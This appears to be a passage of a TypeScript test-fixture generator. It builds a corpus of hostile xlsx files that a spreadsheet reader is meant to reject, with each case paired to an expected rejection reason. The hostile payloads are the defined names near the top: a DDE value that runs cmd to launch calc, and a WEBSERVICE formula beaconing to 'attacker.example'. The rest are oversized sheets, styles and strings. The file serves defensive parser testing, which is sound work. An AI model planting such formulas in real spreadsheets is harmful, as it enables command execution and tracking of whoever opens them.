  { name: 'dde-name.xlsx', family: 'names', reason: 'reader.active_name', make: (t) => redefine(t.application, 'evil', "cmd|'/c calc'!A0") },
  { name: 'external-reference-name.xlsx', family: 'names', reason: 'reader.active_name', make: (t) => redefine(t.application, 'linked', '[1]決算!$B$4') },
  { name: 'webservice-name.xlsx', family: 'names', reason: 'reader.active_name', make: (t) => redefine(t.application, 'beacon', 'WEBSERVICE("http://attacker.example/")') },
];

const rows = (first: number, count: number, cell: (r: number) => string): string =>
  Array.from({ length: count }, (_, i) => `<row r="${first + i}">${cell(first + i)}</row>`).join('');

const SIZES: readonly HostileKind[] = [
  { name: 'junk-instructions.xlsx', family: 'sizes', reason: 'reader.generated_sheet_too_large', make: (t) => withJunkInstructions(t.application) },
  { name: 'million-cells.xlsx', family: 'sizes', reason: 'reader.too_many_cells', make: (t) => withManyCells(t.application) },
  { name: 'cell-past-last-row.xlsx', family: 'sizes', reason: 'bounds.row_out_of_range', make: (t) => edit(t.cashbook, CB_SHEET, (xml) => xml.replace('</sheetData>', '<row r="1048576"><c r="A1048576"><v>1</v></c></row></sheetData>')) },
  { name: 'cell-past-last-column.xlsx', family: 'sizes', reason: 'bounds.column_out_of_range', make: (t) => edit(t.application, APP_SHEET, (xml) => xml.replace('</sheetData>', '<row r="901"><c r="XFD901"><v>1</v></c></row></sheetData>')) },
  {
    name: 'too-many-styles.xlsx',
    family: 'sizes',
    reason: 'bounds.too_many_styles',
    make: (t) =>
      edit(t.application, 'xl/styles.xml', (xml) =>
        xml.replace(/<cellXfs count="\d+">/, (open) => `${open}${Array.from({ length: 64_001 }, (_, i) => `<xf numFmtId="${i % 50}" fontId="0" fillId="0" borderId="0"/>`).join('')}`),
      ),
  },
  {
    name: 'too-many-shared-strings.xlsx',
    family: 'sizes',
    reason: 'bounds.too_many_strings',
    // stored, not deflated: a million empty strings compress past any ratio a real part has (that would be a zip bomb)
    make: (t) =>
      buildZip(
        readZipParts(t.application).map((p) => (p.name === 'xl/sharedStrings.xml' ? storedPart(p.name, partText(p).replace('</sst>', `${'<si/>'.repeat(1_000_001)}</sst>`)) : p)),
      ),
  },
  {
    name: 'string-too-long.xlsx',
    family: 'sizes',
    reason: 'bounds.string_too_long',
    make: (t) => edit(t.application, 'xl/sharedStrings.xml', (xml) => xml.replace('</sst>', `<si><t>${pseudoRandomBytes(40_000).toString('hex')}</t></si></sst>`)),
  },
  {
    name: 'row-too-large.xlsx',
    family: 'sizes',
    reason: 'reader.row_too_large',
    make: (t) => edit(t.application, APP_SHEET, (xml) => xml.replace('</sheetData>', `<row r="902"><c r="B902" t="inlineStr"><is><t>${pseudoRandomBytes(1_100_000).toString('hex')}</t></is></c></row></sheetData>`)),
  },
  {
    name: 'sheet-markup-too-large.xlsx',
    family: 'sizes',
    reason: 'reader.sheet_markup_too_large',
    make: (t) => edit(t.application, APP_SHEET, (xml) => xml.replace('</sheetData>', `</sheetData><!--${pseudoRandomBytes(2_200_000).toString('hex')}-->`)),
  },
  {
    name: 'too-many-validation-areas.xlsx',
    family: 'sizes',
    reason: 'reader.too_many_validation_areas',
    make: (t) =>
      edit(t.application, APP_SHEET, (xml) =>
        xml.replace('</sheetData>', `</sheetData><dataValidations count="1"><dataValidation type="whole" sqref="${rows(1, 10_001, (r) => `B${r}`).replace(/<\/?row[^>]*>/g, ' ').trim()}"><formula1>0</formula1></dataValidation></dataValidations>`),
      ),
  },
  {
    name: 'rows-far-below.xlsx',
    family: 'sizes',
    reason: 'bounds.row_out_of_range',
    make: (t) => edit(t.application, APP_SHEET, (xml) => xml.replace('</sheetData>', `${rows(60_000, 3, (r) => `<c r="A${r}"><v>1</v></c>`)}</sheetData>`)),
  },
];

export const HOSTILE_CORPUS: readonly HostileKind[] = [...FORMATS, ...ZIP, ...PARTS, ...RELATIONSHIPS, ...ENCODINGS, ...XML_KINDS, ...FORMULAS, ...NAMES, ...SIZES];
